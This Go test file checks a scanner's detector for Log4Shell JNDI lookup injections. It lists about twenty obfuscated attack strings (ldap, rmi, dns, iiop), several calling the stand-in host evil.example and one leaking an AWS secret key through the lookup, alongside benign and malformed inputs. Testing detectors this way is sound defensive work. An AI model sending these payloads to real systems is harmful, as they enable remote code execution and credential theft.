package log4shell_test

import (
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan/log4shell"
	"github.com/meshwarden/meshwarden/internal/scan/match/matchtest"
)

const rule = "jndi_lookup"

var family = matchtest.Family{
	Find:     log4shell.Find,
	Triggers: log4shell.Triggers,
	Attacks: []matchtest.Attack{
		{Rule: "lookup_probe", Text: "${java:os}"},
		{Rule: "jndi_lookup", Text: "${${lower:j}${upper:n}${lower:d"},
		{Rule: "jndi_lookup", Text: "${${env:q:-j}${env:q:-n}${env:q:-d}${env:q:-i}"},
		{Rule: rule, Text: "${jndi:ldap://evil.example/a}"},
		{Rule: rule, Text: "Mozilla/5.0 ${JNDI:RMI://evil.example:1099/a"},
		{Rule: rule, Text: "x ${${lower:j}n${::-d}i:rmi://evil.example/a}"},
		{Rule: rule, Text: "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}"},
		{Rule: rule, Text: "${${upper:j}${upper:n}${upper:d}${upper:i}:dns://x}"},
		{Rule: rule, Text: "${${lower:${lower:jn}}di:ldap://x}"},
		{Rule: rule, Text: "${j${k8s:k5:-nD}i${sd:k5:-:}ldap://x}"},
		{Rule: rule, Text: "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x}"},
		{Rule: rule, Text: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}"},
		{Rule: rule, Text: "${jn${env::-}di:ldap://x}"},
		{Rule: rule, Text: "${jnd${upper:ı}:ldap://x}"},
		{Rule: rule, Text: "${jndi${a%25ff:-${b%25ff:-:}}ldap://x}"},
		{Rule: rule, Text: "${a:-b ${c:-$}{jndi:ldap://x}}"},
		{Rule: rule, Text: "${:1:-x$}{jndi:ldap://x}"},
		{Rule: rule, Text: "${java:version} ${env:HOME} ${jndi:ldap://x/${env:AWS_SECRET_ACCESS_KEY}}"},
		{Rule: rule, Text: "$${jndi:iiop://x}"},
		{Rule: rule, Text: "${${main:\\k5:-J}${spring:k5:-Nd}${sys:k5:-i}:ldap://x}"},
	},
	Benign: []string{
		"${java:comp}", "${java:version} and ${java:os} are lookups", "${env:HOME}",
		"${${env:STAGE}.name}", "${a:+${b:-1}${c:-2}${d:-3}}", "${x:-${a:-q}${b:-r}}",
		"${jndi}", "${name} and ${count:-1}", "java:comp/env/jdbc", "jndi:ldap is the prefix of the lookup", "${env:JNDI_HOME}", "${lower:JN}${lower:DI}",
		"`${jn}` + di:", "cost: ${price}", "${sys:java.home}/lib", "${", "${${", "$ {jndi:x}", "${a\njndi:}", "${PATH:-/usr/bin}:jndi", "${date:yyyy-MM-dd}",
	},
	Worst: []string{"${", "${a", "${${a:-b}", "${j}", "$", "${a}{", "${:-$}{", "${jndi", "${a:b:c:"},
}

func TestFamily(t *testing.T) { matchtest.Run(t, family) }

func FuzzFind(f *testing.F) { matchtest.Fuzz(f, family, false) }

func BenchmarkFind(b *testing.B) { matchtest.Bench(b, family) }
